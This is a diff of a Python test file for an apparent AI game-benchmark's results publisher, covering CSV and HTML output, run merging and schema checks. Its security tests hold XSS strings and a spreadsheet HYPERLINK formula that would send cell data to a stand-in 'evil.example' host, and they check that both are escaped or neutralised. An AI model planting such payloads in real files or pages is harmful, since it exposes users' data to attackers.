@@ -9,6 +9,7 @@ from __future__ import annotations
 import itertools
 import json
 import os
+import re
 import subprocess
 import sys
 from pathlib import Path
@@ -21,6 +22,7 @@ import pytest
 from pokebench.results import publish as pub
 from pokebench.results.publish import PublishError, load_results, load_runs, per_player_figures, publish
 from pokebench.play.schedule import build_schedule
+from pokebench.results.schema import SCHEMA_VERSION, DecisionRow, TABLES, columns, columns_markdown
 from pokebench.results.store import RunStore
 
 REPO = Path(__file__).resolve().parent.parent
@@ -74,15 +76,19 @@ def input_log(spec: Any, turns: int) -> list[str]:
             *[f">{side} move 1" for _ in range(turns) for side in ("p1", "p2")]]
 
 
-def llm_decisions(side: str, player: str, turns: int) -> list[dict[str, Any]]:
+def llm_decisions(side: str, player: str, turns: int, reason: str | None = None) -> list[dict[str, Any]]:
     rows = []
     for t in range(1, turns + 1):
-        base = {"side": side, "player": player, "turn": t, "input_tokens": 1000 + t, "cached_input_tokens": 800,
+        base = {"side": side, "player": player, "turn": t, "model": "test/model-x", "served_model": "test/model-x-0613",
+                "input_tokens": 1000 + t, "cached_input_tokens": 800,
                 "output_tokens": 100, "reasoning_tokens": 60, "cost_usd": 0.01, "latency_s": 2.0,
                 "reask": False, "refusal": False, "random_pick": False, "api_key": SECRET}
         if t == 1:  # a first answer that named no legal action, then the re-ask
-            rows.append(base | {"action": None, "reason": "I am not sure", "output_tokens": 50, "cost_usd": 0.005})
-            rows.append(base | {"action": "move Moonblast", "reason": EVIL_REASON, "reask": True})
+            rows.append(base | {"action": None, "reason": "I am not sure", "output_tokens": 50, "cost_usd": 0.005,
+                                "invalid": "no ACTION line: answer with ACTION: <number>"})
+            rows.append(base | {"action": "move Moonblast", "reason": reason or EVIL_REASON, "reask": True,
+                                "sent": f"YOUR LEGAL ACTIONS\n1. move Moonblast\n(turn {t}) <b>bold?</b>",
+                                "raw": f"ACTION: 1\nREASON: {reason or EVIL_REASON}"})
         else:
             rows.append(base | {"action": "move Moonblast", "reason": f"Keep attacking on turn {t}."})
     return rows
@@ -101,11 +107,15 @@ def outcome(spec: Any) -> tuple[str, int]:
 
 def make_run(runs_dir: Path, name: str, players: Sequence[str] = (*BOTS, "llm-a"), pairs: int = 2,
              matchups: Sequence[tuple[str, str]] | None = None, errors: int = 0,
-             games: bool = True, run: str | None = None) -> Path:
-    """A store at runs_dir/name/store.sqlite with synthetic finished games (and harness errors)."""
+             games: bool = True, run: str | None = None, seed_text: str | None = None,
+             store: str = "store.sqlite", only_pairs: Sequence[int] | None = None,
+             reason: str | None = None) -> Path:
+    """A store at runs_dir/name/<store> with synthetic finished games (and harness errors)."""
     matchups = list(matchups) if matchups is not None else list(itertools.combinations(players, 2))
-    specs = build_schedule(run or name, f"seed-{name}", pairs, matchups)
-    path = runs_dir / name / "store.sqlite"
+    specs = build_schedule(run or name, seed_text or f"seed-{name}", pairs, matchups)
+    if only_pairs is not None:
+        specs = [s for s in specs if s.pair in only_pairs]
+    path = runs_dir / name / store
     with RunStore(path) as store:
         for spec in specs if games else []:
             winner, turns = outcome(spec)
@@ -123,7 +133,7 @@ def make_run(runs_dir: Path, name: str, players: Sequence[str] = (*BOTS, "llm-a"
                     info |= {"class": "LLMPlayer", "model": "test/model-x", "reasoning_effort": "high",
                              "api_key": SECRET, "api_key_env": "POKEBENCH_TEST_API_KEY",
                              "client": {"base_url": "http://127.0.0.1:1/v1", "auth_token": SECRET}}
-                    decisions += llm_decisions(side, player, turns)
+                    decisions += llm_decisions(side, player, turns, reason)
                 sides[side] = info
             store.save_game(spec, record, sides, "2026-10-06T11:59:00.000+00:00", decisions)
         for k in range(errors):
@@ -173,9 +183,12 @@ def test_publish_writes_csvs_and_input_logs(runs: Path, tmp_path: Path) -> None:
         expected = store.games()
         for gid in expected["game_id"]:
             rec = store.record(gid)
-            assert (out / "inputlogs" / f"{gid}.log").read_text() == "\n".join(rec["input_log"]) + "\n"
-            assert (out / "replays" / f"{gid}.html").is_file()
+            uid = games.set_index("game_id").loc[gid, "uid"]
+            assert (out / "inputlogs" / f"{uid}.log").read_text() == "\n".join(rec["input_log"]) + "\n"
+            assert (out / "logs" / f"{uid}.log").read_text() == "\n".join(rec["log"]) + "\n"
+            assert (out / "replays" / f"{uid}.html").is_file()
     pd.testing.assert_frame_equal(games[need], expected[need], check_dtype=False)
+    assert games["uid"].is_unique and (games["copies"] == 1).all()
 
     h2h = pd.read_csv(out / "h2h.csv")
     assert {"player", "opponent", "wins", "ties", "losses", "games", "win_rate"} <= set(h2h.columns)
@@ -186,18 +199,17 @@ def test_publish_writes_csvs_and_input_logs(runs: Path, tmp_path: Path) -> None:
     assert set(dec["player"]) == {"llm-a"} and set(dec["game_id"]) <= set(games["game_id"])
     assert "api_key" not in dec.columns
 
-    for page in ("index.html", "games.html", "ratings.svg", "cost.svg"):
+    for page in ("index.html", "games.html", "ratings.svg", "cost.svg", "meta.json", "pairs.csv", "players.json"):
         assert (out / page).is_file(), page
     assert sorted(p.name for p in (out / "players").iterdir()) == sorted(f"{p}.html" for p in [*BOTS, "llm-a"])
     assert not list(tmp_path.glob(".site.*")), "temporary folders left behind"
 
 
-def test_no_decisions_csv_without_llm_players(tmp_path: Path) -> None:
+def test_bots_only_give_an_empty_decisions_table(tmp_path: Path) -> None:
     make_run(tmp_path / "runs", "bots", players=BOTS)
     out = publish(["bots"], tmp_path / "site", runs_dir=tmp_path / "runs", n_bootstrap=0)
-    assert not (out / "decisions.csv").exists() and not (out / "cost.svg").exists()
-    index = (out / "index.html").read_text()
-    assert "decisions.csv" not in index
+    assert (out / "decisions.csv").read_text().splitlines() == [",".join(columns(DecisionRow))]
+    assert not (out / "cost.svg").exists()
 
 
 def test_pages_show_players_turns_and_answers_escaped(runs: Path, tmp_path: Path) -> None:
@@ -207,29 +219,40 @@ def test_pages_show_players_turns_and_answers_escaped(runs: Path, tmp_path: Path
         assert f">{player}</a>" in index
     # bots have no LLM figures: dashes, not zeros
     row = index.split(">random</a>")[1].split("</tr>")[0]
-    assert row.count("—") == 5 and "$0" not in row
+    assert row.count("—") == 6 and "$0" not in row
     llm_row = index.split(">llm-a</a>")[1].split("</tr>")[0]
     assert "$" in llm_row and "%" in llm_row
     assert 'src="ratings.svg"' in index and 'class="h2h"' in index and 'src="cost.svg"' in index
 
-    gid = "llm-a-vs-random.p0001.g1" if (out / "replays" / "llm-a-vs-random.p0001.g1.html").exists() \
-        else "random-vs-llm-a.p0001.g1"
-    replay = (out / "replays" / f"{gid}.html").read_text()
     games = pd.read_csv(out / "games.csv").set_index("game_id")
+    gid = "random-vs-llm-a.p0001.g1"
+    uid = games.loc[gid, "uid"]
+    replay = (out / "replays" / f"{uid}.html").read_text()
     turns = int(games.loc[gid, "turns"])
     for t in range(1, turns + 1):
         assert f'id="turn-{t}"' in replay and f'href="#turn-{t}"' in replay
     assert f'id="turn-{turns + 1}"' not in replay
     assert "Moonblast" in replay and "Calyrex" in replay
-    assert f'href="../inputlogs/{gid}.log"' in replay
+    assert f'href="../inputlogs/{uid}.log"' in replay
     assert "Keep attacking on turn 2." in replay and "re-ask" in replay
-    assert "&lt;script&gt;alert(&#x27;pwned&#x27;)&lt;/script&gt;" in replay
+    assert "&lt;script&gt;alert(&#39;pwned&#39;)&lt;/script&gt;" in replay
     everything = "\n".join(p.read_text() for p in out.rglob("*.html"))
-    assert "<script>alert" not in everything and "<img src=x" not in everything
+    # the viewer's log block is raw text to the browser (it ends only at `</script`, which it never holds)
+    blocks = re.findall(r'<script type="text/plain" class="battle-log-data">(.*?)</script>', everything, re.S)
+    assert blocks and not any("</" in b or "<!--" in b for b in blocks)
+    outside = re.sub(r'<script type="text/plain" class="battle-log-data">.*?</script>', "", everything, flags=re.S)
+    assert "<script>alert" not in outside and "<img src=x" not in outside
     assert "&lt;img src=x onerror=alert(1)&gt;" in replay
     # the mirror game is linked
-    partner = gid[:-1] + ("2" if gid.endswith("1") else "1")
+    partner = games.loc[gid[:-1] + ("2" if gid.endswith("1") else "1"), "uid"]
     assert f'href="{partner}.html"' in replay
+    # what the model was sent (collapsible), the raw answer, the invalid answer and the error sent back
+    assert "<details class=\"sent\"><summary>What the model was sent</summary>" in replay
+    assert "&lt;b&gt;bold?&lt;/b&gt;" in replay and "<b>bold?" not in replay
+    assert "Raw answer" in replay and "invalid answer" in replay and "no ACTION line" in replay
+    assert "test/model-x-0613" in replay and "$0.0100" in replay and "2.0 s" in replay
+    # both team sheets (the synthetic games have none) and the viewer's log block
+    assert replay.count("No team recorded.") == 2 and 'class="battle-log-data"' in replay
     # player page: settings without secrets, its games
     llm_page = (out / "players" / "llm-a.html").read_text()
     assert "test/model-x" in llm_page and "reasoning_effort" in llm_page and gid in llm_page
@@ -283,33 +306,178 @@ def test_per_player_figures_follow_the_method() -> None:
 
 # ---- merging runs -----------------------------------------------------------------------------
 
-def test_merging_runs_keeps_ids_unique(tmp_path: Path) -> None:
+def test_merging_runs_keeps_uids_unique_and_stable(tmp_path: Path) -> None:
     runs = tmp_path / "runs"
     make_run(runs, "a", players=BOTS, pairs=1)
     make_run(runs, "b", players=["max-damage", "llm-a"], pairs=2)
-    with load_runs(["a", "b"], runs) as data:
-        assert len(data.games) == 3 * 2 + 4 and data.games["game_id"].is_unique
-        assert set(data.games["run"]) == {"a", "b"}
-        # "max-damage-vs-llm-a" and the bots' matchups do not collide: ids stay the stores' own
-        assert "random-vs-max-damage.p0001.g1" in set(data.games["game_id"])
-    make_run(runs, "a2", players=BOTS, pairs=1)  # same matchups and pairs as "a": ids collide
+    make_run(runs, "a2", players=BOTS, pairs=1)  # same matchups and pairs as "a", other seeds: ids collide
+    alone = pd.read_csv(publish(["a"], tmp_path / "a", runs_dir=runs, n_bootstrap=10) / "games.csv")
     out = publish(["a", "a2", "b"], tmp_path / "all", runs_dir=runs, n_bootstrap=10)
     games = pd.read_csv(out / "games.csv")
-    assert len(games) == 6 + 6 + 4 and games["game_id"].is_unique
-    assert "a2.random-vs-max-damage.p0001.g1" in set(games["game_id"])
+    assert len(games) == 6 + 6 + 4 and games["uid"].is_unique and not games["game_id"].is_unique
+    assert (games["copies"] == 1).all()
+    # a game's uid is the same whatever it is published with
+    merged = games[games["run"] == "a"].set_index("game_id")["uid"]
+    assert merged.to_dict() == alone.set_index("game_id")["uid"].to_dict()
     dec = pd.read_csv(out / "decisions.csv")
-    assert set(dec["game_id"]) <= set(games["game_id"]) and set(dec["run"]) == {"b"}
-    assert (out / "inputlogs" / "a.random-vs-max-damage.p0001.g1.log").is_file()
+    assert set(dec["uid"]) <= set(games["uid"]) and set(dec["run"]) == {"b"}
+    assert all((out / "inputlogs" / f"{uid}.log").is_file() for uid in games["uid"])
     assert set(pd.read_csv(out / "ratings.csv")["player"]) == {*BOTS, "llm-a"}
 
 
-def test_the_same_game_in_two_stores_is_refused(tmp_path: Path) -> None:
+def test_two_identical_bot_runs_merged_count_each_game_once(tmp_path: Path) -> None:
     runs = tmp_path / "runs"
-    make_run(runs, "shard1", players=BOTS, pairs=1, run="big")
-    make_run(runs, "shard2", players=BOTS, pairs=1, run="big")
+    for name in ("first", "second"):  # deterministic bots, same seed text: the same games
+        make_run(runs, name, players=BOTS, pairs=2, run="bots", seed_text="same-seeds")
+    single = publish(["first"], tmp_path / "one", runs_dir=runs, n_bootstrap=20)
+    both = publish(["first", "second"], tmp_path / "both", runs_dir=runs, n_bootstrap=20)
+    g1, g2 = pd.read_csv(single / "games.csv"), pd.read_csv(both / "games.csv")
+    assert len(g2) == len(g1) == 12 and (g2["copies"] == 2).all() and (g1["copies"] == 1).all()
+    meta = json.loads((both / "meta.json").read_text())
+    assert meta["duplicates_merged"] == 12 and meta["games"] == 12
+    pd.testing.assert_frame_equal(pd.read_csv(single / "ratings.csv"), pd.read_csv(both / "ratings.csv"))
+    assert "12 copies of identical games in several runs counted once" in (both / "index.html").read_text()
+
+
+def test_identical_runs_publish_byte_identical_games(tmp_path: Path) -> None:
+    outs = []
+    for k in range(2):
+        runs = tmp_path / f"machine{k}" / "runs"
+        make_run(runs, "bots", players=BOTS, pairs=2, seed_text="same-seeds")
+        outs.append(publish(["bots"], tmp_path / f"machine{k}" / "site", runs_dir=runs, n_bootstrap=20))
+    for name in ("games.csv", "ratings.csv", "pairs.csv", "h2h.csv", "meta.json", "players.json"):
+        assert (outs[0] / name).read_bytes() == (outs[1] / name).read_bytes(), name
+    for sub in ("inputlogs", "logs", "teams", "replays"):
+        assert snapshot(outs[0] / sub) == snapshot(outs[1] / sub), sub
+
+
+def test_the_same_game_id_as_different_games_in_two_stores_is_refused(tmp_path: Path) -> None:
+    runs = tmp_path / "runs"
+    make_run(runs, "big", players=BOTS, pairs=1, store="shard-0-of-2.sqlite", seed_text="one")
+    make_run(runs, "big", players=BOTS, pairs=1, store="shard-1-of-2.sqlite", seed_text="other")
     with pytest.raises(PublishError, match="more than one store"):
-        publish(["shard1", "shard2"], tmp_path / "site", runs_dir=runs)
+        publish(["big"], tmp_path / "site", runs_dir=runs)
     assert not (tmp_path / "site").exists()
+
+
+def test_a_partial_shard_publish_is_marked_on_every_page_and_in_meta(tmp_path: Path) -> None:
+    runs = tmp_path / "runs"
+    make_run(runs, "big", players=BOTS, pairs=3, store="shard-0-of-2.sqlite", only_pairs=[2], seed_text="s")
+    out = publish(["big"], tmp_path / "site", runs_dir=runs, n_bootstrap=10)
+    meta = json.loads((out / "meta.json").read_text())
+    assert meta["partial"] is True
+    reasons = meta["runs"][0]["partial_reasons"]
+    assert any("shard 1 of 2" in r for r in reasons) and any("not played" in r for r in reasons)
+    pages = list(out.rglob("*.html"))
+    assert len(pages) > 5 and all("Partial results." in p.read_text() for p in pages)
+    # the other shard completes the run: no longer partial
+    make_run(runs, "big", players=BOTS, pairs=3, store="shard-1-of-2.sqlite", only_pairs=[1, 3], seed_text="s")
+    out = publish(["big"], tmp_path / "site", runs_dir=runs, n_bootstrap=10)
+    assert json.loads((out / "meta.json").read_text())["partial"] is False
+    assert "Partial results." not in (out / "index.html").read_text()
+
+
+def test_pairs_table_counts_mirror_pair_splits(runs: Path, tmp_path: Path) -> None:
+    out = publish(["mixed"], tmp_path / "site", runs_dir=runs, n_bootstrap=10)
+    pairs = pd.read_csv(out / "pairs.csv").set_index("matchup")
+    games = pd.read_csv(out / "games.csv")
+    assert list(pairs.reset_index().columns) == columns(TABLES["pairs.csv"])
+    assert len(pairs) == 6 and (pairs["pairs"] == 2).all()
+    assert (pairs[["a_2_0", "split_1_1", "b_2_0", "with_ties", "incomplete"]].sum(axis=1) == 2).all()
+    # recount one matchup by hand from games.csv
+    m = games[games["matchup"] == "random-vs-heuristic"]
+    scores = {k: sum((w == "p1") == (p1 == "random") for w, p1 in zip(g["winner"], g["p1"]))
+              for k, g in m.groupby("pair") if "tie" not in set(g["winner"])}
+    row = pairs.loc["random-vs-heuristic"]
+    assert (row["a_2_0"], row["split_1_1"], row["b_2_0"]) == tuple(
+        sum(v == n for v in scores.values()) for n in (2, 1, 0))
+    assert "Mirror pairs" in (out / "index.html").read_text()
+    assert "A 2–0" in (out / "players" / "random.html").read_text()
+
+
+# ---- the contract ---------------------------------------------------------------------------------
+
+def test_published_folder_carries_its_contract(runs: Path, tmp_path: Path) -> None:
+    out = publish(["mixed"], tmp_path / "site", runs_dir=runs, n_bootstrap=30, seed=7)
+    meta = json.loads((out / "meta.json").read_text())
+    assert meta["schema_version"] == SCHEMA_VERSION
+    assert meta["bootstrap"] == {"samples": 30, "seed": 7, "level": 0.95, "unit": "mirror pair"}
+    assert meta["anchor"] == "max-damage" and meta["prior_sd"] == 800 and meta["partial"] is False
+    assert [r["name"] for r in meta["runs"]] == ["mixed"] and meta["runs"][0]["harness_errors"] == 1
+    assert meta["showdown_versions"] == ["0.11.11-test"] and "posterior" in meta["interval_rule"]
+    # every table has exactly its documented columns
+    for name, model in TABLES.items():
+        if name.endswith(".csv"):
+            assert (out / name).read_text().splitlines()[0] == ",".join(columns(model)), name
+    players = json.loads((out / "players.json").read_text())
+    llm = next(p for p in players if p["player"] == "llm-a")
+    assert llm["kind"] == "llm" and llm["settings"]["model"] == "test/model-x" and llm["counters"]["decisions"] > 0
+    assert "decisions" not in llm["settings"] and "api_key" not in json.dumps(players)
+    # integers as integers, UTC timestamps with Z
+    games = (out / "games.csv").read_text()
+    assert ".0," not in games.splitlines()[1]
+    g = pd.read_csv(out / "games.csv")
+    assert g["started_at"].str.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z").all()
+    assert g["ended_at"].iloc[0] == "2026-10-06T12:00:00.000Z"
+    dec = pd.read_csv(out / "decisions.csv", dtype=str, keep_default_na=False)
+    assert set(dec["turn"]) <= {str(t) for t in range(1, 10)}
+    extra = json.loads(dec[dec["extra"].str.contains("sent")]["extra"].iloc[0])
+    assert extra["sent"].startswith("YOUR LEGAL ACTIONS") and "api_key" not in extra
+    # and it reads back through the package's API
+    back = load_results(out)
+    assert back.meta.bootstrap.seed == 7 and back.games["turns"].dtype == "int64"
+    assert back.decisions["turn"].dtype == "Int64"
+
+
+def test_docs_list_every_published_column() -> None:
+    docs = (REPO / "docs" / "results.md").read_text(encoding="utf-8")
+    generated = docs.split("<!-- columns: generated by pokebench.results.schema -->")[1].split(
+        "<!-- end of columns -->")[0]
+    assert generated.strip() == columns_markdown().strip(), (
+        "docs/results.md is out of date: run `python -m pokebench.results.schema` and paste its output")
+    for name, model in TABLES.items():
+        assert f"### {name}" in docs
+        for col in columns(model):
+            assert f"| `{col}` |" in generated, (name, col)
+
+
+def test_an_older_folder_gets_a_clear_message(runs: Path, tmp_path: Path) -> None:
+    out = publish(["mixed"], tmp_path / "site", runs_dir=runs, n_bootstrap=5)
+    meta = json.loads((out / "meta.json").read_text())
+    (out / "meta.json").write_text(json.dumps(meta | {"schema_version": 0}))
+    with pytest.raises(PublishError, match=r"schema 0; this PokéBench reads schema 1\. Publish its runs again"):
+        load_results(out)
+    (out / "meta.json").write_text(json.dumps(meta | {"schema_version": SCHEMA_VERSION + 1}))
+    with pytest.raises(PublishError, match="Upgrade PokéBench"):
+        load_results(out)
+    (out / "meta.json").unlink()
+    with pytest.raises(PublishError, match="before the results had a versioned contract"):
+        load_results(out)
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    make_run(tmp_path / "runs", "f", players=["max-damage", "llm-a"], pairs=1, reason=formula)
+    out = publish(["f"], tmp_path / "site", runs_dir=tmp_path / "runs", n_bootstrap=5)
+    cells = pd.read_csv(out / "decisions.csv", dtype=str, keep_default_na=False)
+    assert not cells.apply(lambda col: col.str.match(r"[=+\-@\t\r]")).any().any()
+    assert ("'" + formula) in set(cells["reason"])
+    assert formula in set(load_results(out).decisions["reason"])  # the API gives the text as it was
+
+
+def test_the_site_builds_from_a_copied_folder_with_no_store(runs: Path, tmp_path: Path) -> None:
+    from pokebench.site import build_site
+
+    out = publish(["mixed"], tmp_path / "site", runs_dir=runs, n_bootstrap=10)
+    import shutil
+
+    copy = tmp_path / "elsewhere" / "copy"
+    shutil.copytree(out, copy)
+    shutil.rmtree(runs)
+    for page in [*copy.rglob("*.html"), copy / "ratings.svg"]:
+        page.unlink()
+    build_site(copy)
+    assert snapshot(copy) == snapshot(out)
 
 
 # ---- bad input: clear message, exit code 2, nothing written ---------------------------------------
@@ -394,7 +562,7 @@ def test_failed_publish_leaves_the_old_site_intact(tmp_path: Path, monkeypatch: 
     # a failure half-way through writing the pages
     from pokebench.site import build as site_mod
 
-    real = site_mod.render_replay
+    real = site_mod.text_turns
     calls = []
 
     def failing(*args: Any, **kwargs: Any) -> str:
@@ -403,17 +571,17 @@ def test_failed_publish_leaves_the_old_site_intact(tmp_path: Path, monkeypatch: 
             raise RuntimeError("disk full")
         return real(*args, **kwargs)
 
-    monkeypatch.setattr(site_mod, "render_replay", failing)
+    monkeypatch.setattr(site_mod, "text_turns", failing)
     with pytest.raises(RuntimeError, match="disk full"):
         publish(["no-anchor"], site, anchor="random", runs_dir=runs, n_bootstrap=5)
     assert len(calls) == 2
     assert snapshot(site) == before
     assert sorted(p.name for p in tmp_path.iterdir()) == ["runs", "site"], "temporary folder left behind"
 
-    monkeypatch.setattr(site_mod, "render_replay", real)
+    monkeypatch.setattr(site_mod, "text_turns", real)
     publish(["no-anchor"], site, anchor="random", runs_dir=runs, n_bootstrap=5)
     assert set(pd.read_csv(site / "ratings.csv")["player"]) == {"random", "heuristic"}
-    assert not (site / "replays" / "random-vs-max-damage.p0001.g1.html").exists()  # the old site is gone
+    assert len(list((site / "replays").iterdir())) == len(pd.read_csv(site / "games.csv")) == 2  # the old site is gone
     assert sorted(p.name for p in tmp_path.iterdir()) == ["runs", "site"]
 
 
@@ -451,7 +619,7 @@ def test_load_results_from_site_and_run(runs: Path, tmp_path: Path) -> None:
     assert site.anchor == "max-damage" and site.llm_players == ["llm-a"] == run.llm_players
     pd.testing.assert_series_equal(site.ratings["elo"], run.ratings["elo"], check_exact=False, rtol=1e-9)
     assert len(site.games) == len(run.games) == 24
-    with pytest.raises(PublishError, match="neither a published site"):
+    with pytest.raises(PublishError, match="neither a published folder"):
         load_results(tmp_path)
 
 
